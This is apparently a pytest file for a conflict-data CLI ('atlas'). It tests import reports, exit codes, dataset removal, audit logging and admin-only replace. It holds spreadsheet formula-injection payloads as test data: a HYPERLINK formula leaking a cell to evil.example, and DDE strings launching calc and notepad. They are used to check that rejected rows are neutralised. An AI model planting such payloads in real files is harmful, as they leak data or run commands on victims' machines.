"""``python -m atlas import | datasets | remove``: reports, JSON keys and exit codes."""

from __future__ import annotations

import csv
import getpass
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from atlas.cli import main

FIXTURES = Path(__file__).parent / "fixtures" / "import"
REPORT_KEYS = {
    "dataset",
    "format",
    "rows_read",
    "accepted",
    "rejected",
    "rejected_by_reason",
    "added",
    "updated",
    "unchanged",
    "date_min",
    "date_max",
    "encoding",
}


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_import_prints_the_report_and_exits_0(data, capsys):
    code, out, _ = _run(capsys, "import", str(FIXTURES / "acled_old_monadic.csv"))
    assert code == 0
    assert "rows read:        6" in out
    assert "incidents accepted: 3" in out
    assert "added 3, updated 0, unchanged 0" in out


def test_import_json_has_every_report_key(data, capsys):
    code, out, _ = _run(capsys, "import", str(FIXTURES / "ucdp_ged.csv"), "--json")
    assert code == 0
    report = json.loads(out)
    assert set(report) >= REPORT_KEYS
    assert (report["rows_read"], report["accepted"], report["rejected"]) == (4, 3, 1)
    assert report["rejected_by_reason"] == {"invalid where_prec": 1}
    assert (report["date_min"], report["date_max"]) == ("2021-01-12", "2021-03-01")
    assert report["encoding"] == "utf-8"
    assert report["rejected_rows"][0]["row"] == 4


def test_accepted_counts_incidents_after_monadic_rows_merge(data, capsys):
    _, out, _ = _run(capsys, "import", str(FIXTURES / "acled_old_monadic.csv"), "--json")
    report = json.loads(out)
    assert (report["rows_read"], report["accepted"], report["rejected"]) == (6, 3, 0)
    assert report["merged"] == 3


def test_import_with_rejected_rows_still_exits_0(data, capsys, tmp_path):
    path = tmp_path / "points.csv"
    path.write_text("when,y,x\n2021-01-12,16.27,-0.04\n05/03/2024,16.27,-0.04\n")
    code, out, _ = _run(capsys, "import", str(path), "--map", "date=when,lat=y,lon=x", "--json")
    assert code == 0
    report = json.loads(out)
    assert (report["accepted"], report["rejected"], report["format"]) == (1, 1, "csv")


def test_nothing_stored_exits_2_with_one_line_saying_why(data, capsys, tmp_path):
    path = tmp_path / "budget.csv"
    path.write_text("item,amount\nfuel,300\n")
    code, out, err = _run(capsys, "import", str(path))
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith("error: budget.csv: unknown format")


def test_every_row_rejected_exits_2_and_still_reports_them(data, capsys, tmp_path):
    path = tmp_path / "points.csv"
    path.write_text("date,latitude,longitude\n05/03/2024,16.27,-0.04\n")
    code, out, err = _run(capsys, "import", str(path), "--json")
    assert code == 2
    assert json.loads(out)["rejected_by_reason"] == {
        "ambiguous date (day and month could be swapped)": 1
    }
    assert "no row could be imported" in err


def test_bad_mapping_exits_2(data, capsys):
    code, _, err = _run(capsys, "import", str(FIXTURES / "ucdp_ged.csv"), "--map", "when")
    assert code == 2
    assert "is not FIELD=COLUMN" in err


def test_datasets_lists_and_remove_removes(data, capsys):
    _run(capsys, "import", str(FIXTURES / "acled_current_dyadic.csv"), "--accessed", "2024-05-01")
    code, out, _ = _run(capsys, "datasets", "--json")
    assert code == 0
    (listed,) = json.loads(out)
    assert {k: listed[k] for k in ("name", "format", "incidents", "date_min", "date_max")} == {
        "name": "acled",
        "format": "acled",
        "incidents": 4,
        "date_min": "2021-01-12",
        "date_max": "2021-01-15",
    }
    assert "accessed 2024-05-01" in listed["licence"]
    code, out, _ = _run(capsys, "remove", "acled")
    assert (code, out) == (0, "removed dataset 'acled' (4 rows)\n")
    code, _, err = _run(capsys, "remove", "acled")
    assert code == 2
    assert "no dataset named 'acled'" in err
    _, out, _ = _run(capsys, "datasets")
    assert "no imported datasets" in out


def test_layers_command_still_works_with_imported_data(data, capsys):
    _run(capsys, "import", str(FIXTURES / "acled_current_dyadic.csv"))
    code, out, _ = _run(capsys, "layers", "--json")
    assert code == 0
    assert json.loads(out)["incidents"]["rows"] == 3 + 4


HOSTILE_CELLS = {
    "event_date": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "fatalities": "@SUM(1+1)*cmd|' /C calc'!A0",
    "latitude": "+cmd|' /C notepad'!A0",
}


def _acled_with_hostile_rows(folder: Path) -> Path:
    """The fixture export with three more rows, each rejected for a cell that is a formula."""
    table = pd.read_csv(FIXTURES / "acled_current_dyadic.csv", dtype=str, keep_default_na=False)
    template = table.iloc[0].to_dict()
    rows = [
        {**template, "event_id_cnty": f"EVIL{n}", column: value}
        for n, (column, value) in enumerate(HOSTILE_CELLS.items())
    ]
    path = folder / "export.csv"
    pd.concat([table, pd.DataFrame(rows)]).to_csv(path, index=False)
    return path


def test_rejected_rows_csv_is_written_formula_safe(data, tmp_path, capsys):
    out = tmp_path / "rejected.csv"
    code, _, _ = _run(
        capsys, "import", str(_acled_with_hostile_rows(tmp_path)), "--rejected-csv", str(out)
    )
    assert code == 0
    content = out.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = [
        row
        for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
        if row["status"] == "rejected"
    ]
    assert len(rows) == 3
    assert [r["row"] for r in rows] == ["5", "6", "7"]  # row numbers stay numbers
    values = [r["value"] for r in rows]
    assert all(v.startswith("'") for v in values), values
    assert values[0] == "'" + HOSTILE_CELLS["event_date"]
    assert not re.search(rb"(^|,)[=+@-]", content.replace(b'"', b"")), content


def test_rejected_rows_csv_is_written_when_nothing_could_be_imported(data, tmp_path, capsys):
    path = tmp_path / "bad.csv"
    table = pd.read_csv(FIXTURES / "acled_current_dyadic.csv", dtype=str, keep_default_na=False)
    table["event_date"] = "=1+1"
    table.to_csv(path, index=False)
    out = tmp_path / "rejected.csv"
    code, _, err = _run(capsys, "import", str(path), "--rejected-csv", str(out))
    assert code == 2
    assert "no row could be imported" in err
    assert out.read_text(encoding="utf-8-sig").count("'=1+1") == len(table)


def test_rejected_rows_csv_that_cannot_be_written_is_named(data, tmp_path, capsys):
    out = tmp_path / "no-such-folder" / "rejected.csv"
    code, _, err = _run(
        capsys, "import", str(_acled_with_hostile_rows(tmp_path)), "--rejected-csv", str(out)
    )
    assert code == 2
    assert str(out) in err


@pytest.mark.parametrize(
    "command", [["import", str(FIXTURES / "ucdp_ged.csv")], ["datasets"], ["remove", "acled"]]
)
def test_data_directory_that_is_a_file_is_named_not_a_traceback(data, tmp_path, capsys, command):
    not_a_folder = tmp_path / "data-file"
    not_a_folder.write_text("keep me")
    code, _, err = _run(capsys, *command, "--data", str(not_a_folder))
    assert code == 2
    assert err.strip() == f"error: {not_a_folder}: the data directory is not a folder"
    assert not_a_folder.read_text() == "keep me"


def _without(folder: Path, event: str) -> Path:
    """The ACLED fixture without one event."""
    table = pd.read_csv(FIXTURES / "acled_current_dyadic.csv", dtype=str, keep_default_na=False)
    path = folder / "smaller.csv"
    table.loc[table["event_id_cnty"] != event].to_csv(path, index=False)
    return path


def test_replace_makes_the_dataset_the_file_and_is_audited_as_replace(data, tmp_path, capsys):
    _run(capsys, "import", str(FIXTURES / "acled_current_dyadic.csv"))
    code, out, _ = _run(capsys, "import", str(_without(tmp_path, "MLI1002")), "--replace")
    assert code == 0
    assert "added 0, updated 0, unchanged 3, removed 1" in out
    _, out, _ = _run(capsys, "datasets", "--json")
    assert json.loads(out)[0]["rows"] == 3
    _, out, _ = _run(capsys, "audit", "--json")
    assert [(e["action"], e["outcome"]) for e in json.loads(out)] == [
        ("import", "ok"),
        ("replace", "ok"),
    ]


def test_replace_is_refused_to_an_analyst_and_the_refusal_recorded(
    data, tmp_path, monkeypatch, capsys
):
    _run(capsys, "import", str(FIXTURES / "acled_current_dyadic.csv"))
    roles = tmp_path / "roles.toml"
    roles.write_text(f'[[users]]\nemail = "cli:{getpass.getuser()}"\nrole = "analyst"\n')
    monkeypatch.setenv("ATLAS_ROLES_FILE", str(roles))
    code, out, err = _run(capsys, "import", str(_without(tmp_path, "MLI1002")), "--replace")
    assert (code, out) == (2, "")
    assert err.startswith("error: refused: replace dataset needs the admin role")
    monkeypatch.delenv("ATLAS_ROLES_FILE")
    _, out, _ = _run(capsys, "datasets", "--json")
    assert json.loads(out)[0]["rows"] == 4
    _, out, _ = _run(capsys, "audit", "--json")
    refused = json.loads(out)[-1]
    assert (refused["action"], refused["outcome"], refused["role"]) == (
        "replace_dataset",
        "refused",
        "analyst",
    )


def test_a_failed_replace_is_recorded_as_a_failed_replace(data, tmp_path, capsys):
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    code, _, _ = _run(capsys, "import", str(empty), "--replace")
    assert code == 2
    _, out, _ = _run(capsys, "audit", "--json")
    (entry,) = json.loads(out)
    assert (entry["action"], entry["outcome"]) == ("replace", "failed")
